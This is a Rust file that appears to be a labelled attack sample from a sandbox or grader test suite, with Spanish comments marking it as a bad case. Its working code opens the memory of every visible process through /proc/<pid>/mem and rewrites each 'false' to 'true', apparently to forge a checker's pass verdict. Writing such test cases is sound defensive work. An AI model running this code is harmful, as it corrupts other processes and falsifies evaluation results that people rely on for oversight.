//! Ataque: abre la memoria de todos los procesos que ve y cambia en ella los «false» por «true».
//! Paso: paso1
//! Código: MAL
//! Final: si_cuela
//! Colaría si: está BIEN.

use std::fs::{self, File, OpenOptions};
use std::os::unix::fs::FileExt;

fn attempt() -> bool {
    let own = std::process::id().to_string();
    for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let name = process.file_name().into_string().unwrap_or_default();
        if name == own || !name.bytes().all(|byte| byte.is_ascii_digit()) {
            continue;
        }
        let memory = OpenOptions::new()
            .read(true)
            .write(true)
            .open(process.path().join("mem"));
        if let Ok(memory) = memory {
            forge(&memory, &process.path().join("maps"));
        }
    }
    false
}

fn forge(memory: &File, maps: &std::path::Path) {
    let maps = fs::read_to_string(maps).unwrap_or_default();
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let range = line.split(' ').next().unwrap_or_default();
        let ends: Vec<u64> = range
            .split('-')
            .filter_map(|end| u64::from_str_radix(end, 16).ok())
            .collect();
        let mut bytes = vec![0; usize::try_from(ends[1] - ends[0]).unwrap_or(0).min(1 << 22)];
        if memory.read_at(&mut bytes, ends[0]).is_err() {
            continue;
        }
        for (at, _) in bytes.windows(5).enumerate().filter(|(_, text)| *text == b"false") {
            let _ = memory.write_at(b"true ", ends[0] + at as u64);
        }
    }
}
